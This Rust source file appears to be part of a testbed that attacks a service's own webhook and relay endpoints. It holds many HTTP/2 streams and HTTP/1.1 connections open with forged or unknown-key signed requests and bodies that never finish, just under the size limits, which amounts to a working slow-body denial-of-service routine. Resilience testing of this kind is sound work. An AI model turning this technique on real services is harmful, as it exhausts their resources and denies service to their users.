use super::{ATTACK_TIME, EndlessBody, PreparedAttack, ZEROS, connect, connect_http2};
use crate::{
    account::{attacker_address, sign_with_key},
    testbed::Testbed,
};
use ed25519_dalek::SigningKey;
use http::Request;
use sealpost_proto::{
    Origin,
    limits::{ENVELOPES_REQUEST_BYTES_MAX, WEBHOOK_CALL_BYTES_MAX},
};
use sealpost_service::{Clock as _, SystemClock, random_array};
use sealpost_signatures::ContentDigest;
use std::net::Ipv4Addr;
use tokio::{io::AsyncWriteExt as _, task::JoinSet, time::sleep};

const NETWORK: u8 = 2;
const HTTP2_CONNECTIONS: usize = 4;
const STREAMS: usize = 120;
const HTTP1_CONNECTIONS: usize = 60;

pub(super) async fn prepare(testbed: &Testbed) -> anyhow::Result<PreparedAttack> {
    let webhook = testbed.webhook_authority().await?;
    let relay = testbed.relay.clone();
    Ok(Box::pin(async move {
        let mut held = JoinSet::new();
        for number in 0..HTTP2_CONNECTIONS {
            let source = attacker_address(NETWORK, number);
            let request = forged_call(&webhook, number % 2 == 0)?;
            let remaining = WEBHOOK_CALL_BYTES_MAX - 1;
            hold_streams(&mut held, &webhook, source, &request, remaining).await?;
            let request = forged_submission(&relay)?;
            let remaining = ENVELOPES_REQUEST_BYTES_MAX - 1;
            hold_streams(&mut held, relay.authority(), source, &request, remaining).await?;
        }
        for number in 0..HTTP1_CONNECTIONS {
            held.spawn(hold_connection(
                webhook.clone(),
                attacker_address(NETWORK, number),
            ));
        }
        sleep(ATTACK_TIME).await;
        Ok(Vec::new())
    }))
}

/// Headers of a webhook call, whose signature is wrong.
fn forged_headers() -> [(&'static str, String); 3] {
    [
        ("webhook-id", "msg_forged".to_owned()),
        ("webhook-timestamp", SystemClock.now().as_secs().to_string()),
        ("webhook-signature", format!("v1,{}=", "A".repeat(43))),
    ]
}

fn forged_call(authority: &str, has_headers: bool) -> anyhow::Result<Request<()>> {
    let mut request = Request::post(format!("http://{authority}/sealpost"))
        .header("content-type", "application/json");
    if has_headers {
        for (name, value) in forged_headers() {
            request = request.header(name, value);
        }
    }
    Ok(request.body(())?)
}

/// Creates a submission whose signature is valid, but whose key no account has.
fn forged_submission(relay: &Origin) -> anyhow::Result<Request<()>> {
    let key = SigningKey::from_bytes(&random_array());
    let digest = ContentDigest::of(b"another body");
    sign_with_key(&key, relay, "POST", "/v1/envelopes", &digest).with_body(())
}

async fn hold_streams(
    held: &mut JoinSet<anyhow::Result<()>>,
    authority: &str,
    source: Ipv4Addr,
    request: &Request<()>,
    remaining: usize,
) -> anyhow::Result<()> {
    let mut sender = connect_http2(authority, source, 64 * 1024).await?;
    for _ in 0..STREAMS {
        // A server may close the connection, which ends the attack over it.
        if sender.ready().await.is_err() {
            break;
        }
        let response = sender.send_request(request.clone().map(|()| EndlessBody { remaining }));
        held.spawn(async move {
            response.await?;
            Ok(())
        });
    }
    held.spawn(async move {
        let _sender = sender;
        std::future::pending().await
    });
    Ok(())
}

async fn hold_connection(authority: String, source: Ipv4Addr) -> anyhow::Result<()> {
    let mut stream = connect(&authority, source, None).await?;
    let [id, timestamp, signature] =
        forged_headers().map(|(name, value)| format!("{name}: {value}\r\n"));
    let head = format!(
        "POST /sealpost HTTP/1.1\r\nhost: {authority}\r\ncontent-type: application/json\r\n\
         content-length: {WEBHOOK_CALL_BYTES_MAX}\r\n{id}{timestamp}{signature}\r\n"
    );
    stream.write_all(head.as_bytes()).await?;
    let mut remaining = WEBHOOK_CALL_BYTES_MAX - 1;
    while remaining > 0 {
        let chunk = remaining.min(ZEROS.len());
        stream.write_all(&ZEROS[..chunk]).await?;
        remaining -= chunk;
    }
    std::future::pending().await
}
